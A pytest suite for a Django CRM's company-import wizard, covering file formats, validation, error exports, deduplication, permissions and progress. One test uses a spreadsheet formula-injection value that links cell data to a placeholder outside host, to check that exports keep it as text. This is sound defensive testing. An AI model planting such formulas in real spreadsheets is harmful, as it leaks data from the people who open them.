"""Company import wizard (R7): formats and encodings, what was detected, the check before the
import, refused files, bad rows, sheets, re-import, permissions, progress."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from crm.models import (
    CompanyImport,
    ContactPerson,
    Counterparty,
    CounterpartyCategory,
    ImportState,
    Industry,
    ProcessingStatus,
)
from crm.services.importing import import_run

HEADER = ["Наименование", "ИНН", "Телефон", "Контактное лицо", "E-mail"]
ROWS = [
    ["ООО «Теплосеть»", "7801000001", "+7 812 000-00-01", "Иванов Иван", "info@teplo.example"],
    ["ТСЖ «Южное»", "", "+7 812 000-00-02", "Сёмина Ольга", ""],
    ["УК «Дом-Сервис»", "7801000003", "", "Пётр Кузьмин", ""],
]
MAPPING = {"name": 0, "inn": 1, "phone": 2, "contact_person": 3, "email": 4}


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def zhkh(db):
    return Industry.objects.create(name="ЖКХ", starts_pipeline=True)


def csv_bytes(rows, *, encoding="utf-8", delimiter=";"):
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    return buffer.getvalue().encode(encoding)


def xlsx_bytes(*sheets):
    """A workbook with one sheet per (title, rows) pair, or one sheet of rows."""
    if sheets and not isinstance(sheets[0], tuple):
        sheets = (("Лист1", sheets[0]),)
    workbook = Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets:
        sheet = workbook.create_sheet(title)
        for row in rows:
            sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def upload(client, name, content):
    response = client.post("/crm/import/", {"file": SimpleUploadedFile(name, content)})
    assert response.status_code == 302, response.content.decode()[:3000]
    return CompanyImport.objects.latest("id")


def configure(client, company_import, mapping=MAPPING, **options):
    data = {f"col_{field}": str(column) for field, column in mapping.items()}
    data.setdefault("mode", "create")
    data.setdefault("initial_status", ProcessingStatus.IMPORTED)
    data.setdefault("category", CounterpartyCategory.CLIENT)
    for key, value in options.items():
        data[key] = value.pk if hasattr(value, "pk") else value
    if not data.get("create_industries"):
        data.pop("create_industries", None)
    response = client.post(f"/crm/import/{company_import.pk}/mapping/", data)
    assert response.status_code == 302, response.content.decode()[:3000]
    company_import.refresh_from_db()
    return company_import


def confirm(client, company_import):
    response = client.post(f"/crm/import/{company_import.pk}/confirm/")
    assert response.status_code == 302
    company_import.refresh_from_db()
    return company_import


def run_wizard(client, name, content, mapping=MAPPING, **options):
    company_import = configure(client, upload(client, name, content), mapping, **options)
    assert company_import.state == ImportState.PREVIEW, company_import.failure
    return confirm(client, company_import)


@pytest.mark.parametrize(
    ("name", "content", "detected"),
    [
        ("база.csv", csv_bytes([HEADER, *ROWS]), ["UTF-8", "точка с запятой"]),
        (
            "база.csv",
            csv_bytes([HEADER, *ROWS], encoding="cp1251", delimiter=","),
            ["Windows-1251", "запятая"],
        ),
        (
            "база.csv",
            b"\xef\xbb\xbf" + csv_bytes([HEADER, *ROWS], delimiter="\t"),
            ["UTF-8 (BOM)", "табуляция"],
        ),
        ("база.xlsx", xlsx_bytes([HEADER, *ROWS]), ["книга Excel", "Лист1"]),
    ],
    ids=["csv-utf8-semicolon", "csv-cp1251-comma", "csv-bom-tab", "xlsx"],
)
def test_import_reads_each_format_and_says_what_it_detected(
    org, client, zhkh, name, content, detected
):
    """GIVEN the same three companies as CSV (UTF-8 «;», Windows-1251 «,», UTF-8 with BOM and
    tabs) and as .xlsx WHEN uploaded THEN the mapping page names the encoding and delimiter (or
    the sheet), guesses the columns, and after the check and the confirmation the companies
    exist with the values for all rows and their contact persons."""
    client.force_login(org["seller"])
    company_import = upload(client, name, content)
    page = client.get(f"/crm/import/{company_import.pk}/mapping/").content.decode()
    for text in detected:
        assert text in page
    assert 'name="col_inn"' in page
    form = client.get(f"/crm/import/{company_import.pk}/mapping/").context["form"]
    assert form["col_inn"].initial == "1" and form["col_contact_person"].initial == "3"
    company_import = configure(client, company_import, industry=zhkh, responsible=org["seller"])
    assert company_import.preview["create"] == 3
    assert not Counterparty.objects.exists()  # nothing before the confirmation
    company_import = confirm(client, company_import)
    assert company_import.state == ImportState.DONE
    assert company_import.created_count == 3
    south = Counterparty.objects.get(name="ТСЖ «Южное»")
    assert south.industry == zhkh and south.responsible == org["seller"]
    assert south.category == CounterpartyCategory.CLIENT
    assert south.status == ProcessingStatus.IMPORTED
    assert south.next_contact_check_at is not None
    assert list(south.contacts.values_list("name", flat=True)) == ["Сёмина Ольга"]
    assert Counterparty.objects.get(inn="7801000001").email == "info@teplo.example"


def test_bad_rows_are_reported_and_downloaded_as_xlsx_to_fix_and_import_again(org, client):
    """GIVEN a file with an empty name, a bad INN and a bad email among good rows WHEN checked
    THEN the good rows are planned, the bad ones listed with their row number and reason; the
    .xlsx of bad rows holds the original cells and a reason column; fixed in that file and
    uploaded again, those rows import."""
    rows = [
        HEADER,
        ["ООО «Хорошая»", "7801000010", "", "", ""],
        ["", "7801000011", "", "", ""],
        ["ООО «Плохой ИНН»", "12345", "", "", ""],
        ["ООО «Плохая почта»", "", "", "", "не-почта"],
    ]
    client.force_login(org["seller"])
    company_import = run_wizard(client, "bad.csv", csv_bytes(rows))
    assert company_import.created_count == 1
    errors = {e["row"]: e["reason"] for e in company_import.errors}
    assert set(errors) == {3, 4, 5}
    assert "наименование" in errors[3]
    assert "10 или 12 цифр" in errors[4]
    assert "почты" in errors[5]
    page = client.get(f"/crm/import/{company_import.pk}/").content.decode()
    assert "Скачать их в Excel с причинами" in page

    response = client.get(f"/crm/import/{company_import.pk}/errors.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    table = [[c if c is not None else "" for c in row] for row in sheet.iter_rows(values_only=True)]
    assert table[0] == [*HEADER, "Причина ошибки", "Строка в исходном файле"]
    assert [r[0] for r in table[1:]] == ["", "ООО «Плохой ИНН»", "ООО «Плохая почта»"]
    assert table[1][1] == "7801000011"  # kept as text, not a number
    # the user fixes the rows in Excel and imports the same file again
    table[1][0] = "ООО «Без названия»"
    table[2][1] = "7801000012"
    table[3][4] = "office@fixed.example"
    workbook = Workbook()
    for row in table:
        workbook.active.append([str(c) for c in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    again = run_wizard(client, "bad-errors.xlsx", buffer.getvalue())
    assert again.created_count == 3 and again.errors == []
    assert Counterparty.objects.get(inn="7801000012").name == "ООО «Плохой ИНН»"


def test_a_formula_in_a_bad_row_stays_text_in_the_download(org, client):
    """GIVEN a bad row whose name starts with «=» WHEN the bad rows are downloaded THEN the
    cell is a string, not a formula."""
    rows = [HEADER, ['=HYPERLINK("http://x/?"&A1,"Нажмите")', "12", "", "", ""]]
    client.force_login(org["seller"])
    company_import = run_wizard(client, "f.csv", csv_bytes(rows), {"name": 0, "inn": 1})
    response = client.get(f"/crm/import/{company_import.pk}/errors.xlsx")
    cell = load_workbook(io.BytesIO(response.content)).active["A2"]
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")


def test_reimport_creates_no_duplicates(org, client):
    """GIVEN an imported file WHEN the same companies come again (same INN, or the same name
    written with other quotes and case, without INN) THEN nothing new is created."""
    client.force_login(org["seller"])
    run_wizard(client, "a.csv", csv_bytes([HEADER, *ROWS]))
    again = [HEADER, *ROWS]
    again[2] = ['тсж "южное"', "", "", "", ""]
    company_import = run_wizard(client, "b.csv", csv_bytes(again))
    assert company_import.created_count == 0
    assert company_import.duplicate_count == 3
    assert Counterparty.objects.count() == 3


def test_two_thousand_rows_import_with_bulk_writes(org, client):
    """GIVEN 2,000 rows WHEN checked and imported THEN all are created with a handful of
    queries (COPY in batches, existing companies looked up in chunks), not one per row. The
    wall time is measured by bench/crm_import.py, not asserted here."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    rows = [HEADER] + [[f"ООО «Компания {i}»", f"78{i:08d}", "", "Иванов", ""] for i in range(2000)]
    client.force_login(org["seller"])
    with CaptureQueriesContext(connection) as queries:
        company_import = run_wizard(client, "big.xlsx", xlsx_bytes(rows))
    assert company_import.created_count == 2000
    assert Counterparty.objects.count() == 2000
    assert ContactPerson.objects.count() == 2000
    assert len(queries) < 120, len(queries)


@pytest.mark.parametrize(
    ("name", "content", "looks_like"),
    [
        ("база.csv", b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n", "PDF"),
        ("база.csv", b"<!DOCTYPE html><html><body><table></table></body></html>", "HTML"),
        ("база.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "PNG"),
        ("база.csv", xlsx_bytes([HEADER, *ROWS]), "книга Excel"),
        ("база.csv", bytes(range(256)) * 20, "двоичный файл"),
        ("база.xlsx", csv_bytes([HEADER, *ROWS]), "текстовый файл"),
        ("база.xlsx", b"%PDF-1.7\n%%EOF", "PDF"),
        ("база.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500, ".xls"),
    ],
    ids=[
        "pdf-as-csv",
        "html-as-csv",
        "png-as-csv",
        "xlsx-as-csv",
        "binary",
        "csv-as-xlsx",
        "pdf-as-xlsx",
        "xls-as-xlsx",
    ],
)
def test_a_disguised_file_is_refused_naming_what_it_looks_like(
    org, client, name, content, looks_like
):
    """GIVEN a file whose content is not its declared format (a PDF renamed .csv once created
    27 junk companies) WHEN uploaded THEN a Russian message on the form says what it looks
    like, and nothing is stored."""
    client.force_login(org["seller"])
    response = client.post("/crm/import/", {"file": SimpleUploadedFile(name, content)})
    assert response.status_code == 400
    message = response.context["form"].errors["file"][0]
    assert looks_like in message, message
    assert not CompanyImport.objects.exists()
    assert not Counterparty.objects.exists()


def test_other_extensions_are_refused(org, client):
    client.force_login(org["seller"])
    response = client.post("/crm/import/", {"file": SimpleUploadedFile("a.pdf", b"%PDF-1.4")})
    assert "Поддерживаются только файлы .xlsx и .csv." in response.content.decode()


def test_a_workbook_with_several_sheets_lets_the_user_pick_one(org, client):
    """GIVEN a workbook whose first sheet is a cover page WHEN uploaded THEN the page lists the
    sheets; picking «Клиенты» shows its columns and imports its rows."""
    content = xlsx_bytes(
        ("Титул", [["Список клиентов на 2025 год"]]),
        ("Клиенты", [HEADER, *ROWS]),
    )
    client.force_login(org["seller"])
    company_import = upload(client, "book.xlsx", content)
    assert company_import.sheets == ["Титул", "Клиенты"]
    page = client.get(f"/crm/import/{company_import.pk}/mapping/").content.decode()
    assert "Листов в книге: 2" in page and "Список клиентов на 2025 год" in page
    response = client.post(f"/crm/import/{company_import.pk}/sheet/", {"sheet": "Клиенты"})
    assert response.status_code == 302
    page = client.get(f"/crm/import/{company_import.pk}/mapping/").content.decode()
    assert "ООО «Теплосеть»" in page and 'Лист</dt><dd class="col-sm-9">Клиенты' in page
    company_import = confirm(client, configure(client, company_import))
    assert company_import.created_count == 3


def test_import_permissions(org, client):
    """GIVEN the wizard WHEN anonymous → login; the registrar (no manager role, no team) → 404;
    another manager cannot open, check, confirm or download someone's upload."""
    assert client.get("/crm/import/").status_code == 302
    client.force_login(org["office"])
    assert client.get("/crm/import/").status_code == 404
    client.force_login(org["seller"])
    company_import = upload(client, "a.csv", csv_bytes([HEADER, *ROWS]))
    client.force_login(org["seller2"])
    base = f"/crm/import/{company_import.pk}"
    assert client.get(f"{base}/mapping/").status_code == 404
    assert client.get(f"{base}/").status_code == 404
    assert client.post(f"{base}/confirm/").status_code == 404
    assert client.get(f"{base}/errors.xlsx").status_code == 404


def test_progress_fragment_for_htmx_polling(org, client):
    """GIVEN a running import WHEN the page polls with htmx THEN it gets the progress fragment
    that keeps polling; once done the fragment stops."""
    client.force_login(org["seller"])
    company_import = upload(client, "a.csv", csv_bytes([HEADER, *ROWS]))
    CompanyImport.objects.filter(pk=company_import.pk).update(
        state=ImportState.RUNNING, total_rows=4, processed_rows=1
    )
    response = client.get(f"/crm/import/{company_import.pk}/", HTTP_HX_REQUEST="true")
    fragment = response.content.decode()
    assert "<html" not in fragment
    assert 'hx-trigger="every 1s"' in fragment and "25%" in fragment
    CompanyImport.objects.filter(pk=company_import.pk).update(state=ImportState.DONE)
    fragment = client.get(f"/crm/import/{company_import.pk}/", HTTP_HX_REQUEST="true").content
    assert b"hx-trigger" not in fragment


def test_the_run_is_idempotent_and_resumable(org, client):
    """GIVEN a finished import WHEN the job runs again THEN nothing changes; WHEN a worker died
    mid-run (the import is still «running») and the job is retried THEN only what is missing
    is written."""
    client.force_login(org["seller"])
    company_import = run_wizard(client, "a.csv", csv_bytes([HEADER, *ROWS]))
    import_run(import_id=company_import.pk)
    assert Counterparty.objects.count() == 3
    Counterparty.objects.filter(inn="7801000003").delete()  # as if the last batch never ran
    CompanyImport.objects.filter(pk=company_import.pk).update(state=ImportState.RUNNING)
    import_run(import_id=company_import.pk)
    assert Counterparty.objects.count() == 3
    assert ContactPerson.objects.filter(name="Иванов Иван").count() == 1
